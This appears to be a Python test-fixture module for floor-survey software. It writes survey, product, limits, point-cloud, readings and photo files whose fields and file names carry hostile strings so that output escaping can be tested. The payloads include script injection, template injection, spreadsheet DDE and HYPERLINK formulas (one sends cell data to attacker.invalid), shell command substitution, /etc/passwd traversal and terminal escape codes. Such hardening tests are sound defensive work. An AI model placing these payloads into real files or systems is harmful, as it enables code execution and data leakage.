"""Payloads, the files that carry them, and the command line run under watch."""

from __future__ import annotations

import csv
import os
import re
import sys
from functools import cache
from pathlib import Path

import numpy as np

#: What a spreadsheet, a page, a typesetter, a template engine, a drawing program, a shell and a terminal would run.
PAYLOADS = (
    "</script><script>window.broken=1</script>",
    "<img src=x onerror=window.broken=1>",
    '"><svg onload=window.broken=1>',
    "' autofocus onfocus=window.broken=1 x='",
    "<!--<script>",
    "]]></style><style>*{display:none}</style>",
    "{{7*7}}{% for x in y %}{{x}}{% endfor %}",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"open")',
    "@SUM(1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "harmless;=1+1;@SUM(2)",
    "=1+1 full width",
    "%0A%0d%u202e%%u%%c",
    "\\U+202Eback\\U+000Aline\\P\\M+1826A",
    "^J^M^I^ caret",
    '#import "/etc/passwd"; #read("/etc/passwd")',
    "#sys.inputs $x^2$ @label <label> `raw` *bold* _it_",
    '#link("http://attacker.invalid")[open] http://attacker.invalid/',
    "javascript:window.broken=1//data:text/html,x",
    "&lt;b&gt; &amp;lt; &#60;script&#62; &",
    "$(touch pwned) `touch pwned` ; touch pwned | cat",
    "../../../../etc/passwd %s %n {0.__class__}",
    "\N{COMBINING ACUTE ACCENT}" * 30 + "stack",
)
#: Signs that no text of ours may carry; TOML takes them as escapes, JSON and file names as they are.
CONTROLS = (
    "\x1b]0;owned\x07", "\x1b[2J", "\x9b31m", "\u202eesrever\u202c", "a\u200bb", "\x00", "two\nlines", "\t=1+1",
    "\r=1+1",
    "\x08\x7f", "\u2028line", "\ufeffbom", "\u2066isolate",
)  # fmt: skip
#: Of these a cell of a table may hold the following, for no keyboard signs are looked for there.
NOTED = ("\x9b31m", "\u202eesrever\u202c", "a\u200bb", "\ufeffbom", "\u2066isolate", "\xad")
#: Straightedges among the readings by hand.
BARS = 12
#: What may never stand in anything that is shown, written or printed.
FORBIDDEN = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0))} - {"\n"} | set(
    "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\u2028\u2029"
)
#: Less would hold for a file's name, which may have 255 bytes and no slash.
NAME = "=1+1;<img src=x onerror=x>\x1b]0;owned\x07\x9b2J\u202e{{7*7}}#sys\n@x%%u^J"

#: The same with a byte that is no text, which names may hold where they are bytes.
RAW_NAME = NAME + (os.fsdecode(b"\xff") if sys.platform == "linux" else "")


def toml(text: str) -> str:
    """A TOML text."""
    signs = {'"': '\\"', "\\": "\\\\"}
    return '"' + "".join(signs.get(c) or (c if c.isprintable() else f"\\U{ord(c):08x}") for c in text) + '"'


def squeezed(text: str) -> str:
    """Without blanks, which a page and a typesetter may lay as they like."""
    return re.sub(r"[\s\u00a0\u200b\u00ad]+", "", text)


def write_cloud(path: Path, *, filled: bool = False) -> None:
    """An invented floor of 2.4 m by 2.0 m with two hollows, as rows of x, y, z in metres."""
    path.write_text(_cloud(filled), encoding="utf-8")


@cache
def _cloud(filled: bool) -> str:
    rng = np.random.default_rng(7)
    x, y = np.meshgrid(np.arange(0.0, 2.4, 0.012), np.arange(0.0, 2.0, 0.012))
    x, y = (v.ravel() + rng.uniform(-0.004, 0.004, x.size) for v in (x, y))
    deep = 0.0 if filled else 1.0
    z = -0.007 * deep * np.exp(-((x - 0.7) ** 2 + (y - 0.8) ** 2) / 0.06)
    z -= 0.006 * np.exp(-((x - 1.7) ** 2 + (y - 1.3) ** 2) / 0.05)
    z += 0.0006 * np.sin(5 * x) * np.cos(4 * y) + rng.normal(0.0, 0.0004, x.size)
    # An L, so that the room fits itself in one way only.
    keep = (x < 1.8) | (y < 1.5)
    lines = [f"{a:.4f};{b:.4f};{c:.4f}" for a, b, c in zip(x[keep], y[keep], z[keep], strict=True)]
    return "\n".join(["X [m];Y [m];Z [m]", *lines]) + "\n"


def write_photo(path: Path) -> None:
    """A photograph whose tags tell where, by whom and with what it was taken."""
    from PIL import Image
    from PIL.ExifTags import GPS, IFD, Base

    pixels = np.random.default_rng(3).integers(0, 255, (60, 80, 3), dtype=np.uint8)
    exif = Image.Exif()
    exif[Base.Artist] = "SECRETARTIST"
    exif[Base.Model] = "SECRETMODEL"
    exif[Base.ImageDescription] = "SECRETTEXT"
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[GPS.GPSLatitudeRef], gps[GPS.GPSLatitude] = "N", (47.0, 11.0, 12.5)
    gps[GPS.GPSLongitudeRef], gps[GPS.GPSLongitude] = "E", (8.0, 7.0, 6.5)
    kind = {"format": "JPEG", "comment": b"SECRETCOMMENT"} if path.suffix != ".png" else {"format": "PNG"}
    Image.fromarray(pixels).save(path, exif=exif.tobytes(), **kind)


def survey_text(photos: list[str]) -> str:
    """A survey file with every section, every key for texts filled with payloads; each payload is a door's name too."""
    short = [text[:80] for text in PAYLOADS]
    at = iter([*short, *short])

    def said() -> str:
        return toml(next(at))

    every = toml("\n".join(PAYLOADS))
    lines = ["[place]", *(f"{key} = {said()}" for key in ("name", "address", "room", "client", "reference"))]
    lines += ["[visit]", "date = 2026-05-04", f"measured_by = {said()}", f"firm = {said()}"]
    lines += [f"instruments = [{', '.join(map(toml, short[:20]))}]", f"notes = {every}"]
    lines += ["[room]", "outline = [[0, 0], [2.4, 0], [2.4, 1.5], [1.8, 1.5], [1.8, 2.0], [0, 2.0]]"]
    lines += ["[covering]", 'kind = "click vinyl"', f"name = {said()}", "thickness_mm = 5"]
    lines += ["[[moisture]]", 'method = "carbide"', "value = 2.4", 'base = "cement screed"', "at = [0.5, 0.5]"]
    lines += ["limit = 2.0", f"limit_source = {said()}"]
    lines += ["[climate]", "air_c = 12", "[heating]", 'kind = "water"']
    lines += ["[sound]", "tiles_tapped = 20", "tiles_hollow = 1", "hollow_at = [[0.4, 0.4]]", "clean = false"]
    lines += [f"contamination = [{', '.join(map(toml, short[:20]))}]"]
    lines += ["[old_covering]", 'kind = "ceramic tiles"', f"name = {said()}", f"adhesive = {said()}"]
    lines += ["[levelling]", "dams = [[[0.1, 1.9], [0.4, 1.9]]]", "movement_joints = [[[0.1, 1.7], [0.5, 1.7]]]"]
    for number, text in enumerate(short):
        x = 0.1 + 0.05 * number
        lines += ["[[door]]", f"name = {toml(text)}", f"line = [[{x:.2f}, 0.05], [{x + 0.04:.2f}, 0.05]]"]
        lines += ["[[crack]]", f"name = {toml(text)}", f"line = [[{x:.2f}, 0.1], [{x:.2f}, 0.2]]", "moves = true"]
        lines += ["[[zone]]", f"name = {toml(text)}", 'kind = "no grinding"']
        lines += [f"corners = [[{x:.2f}, 0.3], [{x + 0.04:.2f}, 0.3], [{x + 0.04:.2f}, 0.34], [{x:.2f}, 0.34]]"]
        lines += ["[[note]]", f"text = {toml(text)}", f"at = [{x:.2f}, 1.2]"]
    for number, name in enumerate(photos):
        caption = " ".join(PAYLOADS)[300 * number :][:300]
        lines += ["[[photo]]", f"file = {toml(name)}", f"caption = {toml(caption)}", "at = [0.6, 0.6]"]
    return "\n".join(lines) + "\n"


def product_text() -> str:
    return f"""name = {toml(PAYLOADS[7][:80])}
source = {toml(PAYLOADS[0])}
currency = {toml(PAYLOADS[8])}
kg_per_m2_mm = 1.6
bag_kg = 20
least_layer_mm = 1
greatest_layer_mm = 30
waste_share = 0.1
bag_price = 20
primer_price_per_kg = 8
fill_price_per_m2 = 12
grind_price_per_m2_mm = 9
lift_price_per_m2 = 30
"""


def limits_text() -> str:
    """Two sets' worth of texts: titles, tables and notes may be of any length."""
    every = toml(" | ".join(PAYLOADS))
    return f"""id = "hostile"
title = {every}
applies_to = {every}
note = {every}
conflict = {every}
[source]
document = {every}
table = {every}
year = {toml(PAYLOADS[9])}
reference = {every}
mark = "read"
[[limits]]
what = "gap"
edge_mm = 1000
limit_mm = 3
note = {every}
[[limits]]
what = "lip"
limit_mm = 1
note = {every}
[[limits]]
what = "joint_width"
limit_mm = 5
"""


def write_readings(path: Path) -> None:
    """Readings by hand with payloads as numbers, joints, notes, places and instruments."""
    head = [
        "what", "number", "x_m", "y_m", "to_x_m", "to_y_m", "joint", "where", "instrument", "value_mm", "u_mm", "note",
        "0.00 m", "0.25 m", "0.50 m", "0.75 m", "1.00 m",
    ]  # fmt: skip
    rows: list[list[object]] = []
    for number, text in enumerate(PAYLOADS[:BARS]):
        y = f"{0.2 + 0.09 * number:.2f}"
        place = ["0.3", y, "1.3", y, ""]
        rows.append(["straightedge", f"{text} bar", *place, text, text, "", "", text, "c", "1", "2", "1", "c"])
    spots = [("lip", 2.0, "1.0"), ("joint_width", 6.0, "0.6"), ("joint_depth", 4.0, "0.4")]
    for texts, kinds in ((PAYLOADS, spots), (NOTED, [("lip", 2.0, "1.1")])):
        for number, text in enumerate(texts):
            for what, value, y in kinds:
                place = [f"{0.1 + 0.06 * number:.2f}", y, "", "", text]
                rows.append([what, f"{text} {what}", *place, text, text, value, 0.2, text, *[""] * 5])
    with path.open("w", encoding="utf-8", newline="") as stream:
        stream.write("# unit: mm\n")
        csv.writer(stream).writerows([head, *rows])


def hostile_inputs(folder: Path) -> dict[str, Path]:
    """The files, with names that are hostile too."""
    folder.mkdir()
    found = {
        "cloud": folder / f"cloud {RAW_NAME}.csv",
        "survey": folder / f"survey {RAW_NAME}.toml",
        "product": folder / f"product {RAW_NAME}.toml",
        "limits": folder / f"limits {RAW_NAME}.toml",
        "readings": folder / f"readings {RAW_NAME}.csv",
    }
    write_cloud(found["cloud"])
    photos = ["=1+1;<img src=x onerror=x>{{7*7}}#sys%%u^J.jpg", "harmless.png"]
    for name in photos:
        write_photo(folder / name)
    found["survey"].write_text(survey_text(photos), encoding="utf-8")
    found["product"].write_text(product_text(), encoding="utf-8")
    found["limits"].write_text(limits_text(), encoding="utf-8")
    write_readings(found["readings"])
    return found


QUICK = ("--edges", "1 m", "--directions", "4", "--cell", "30 mm", "--no-joints")
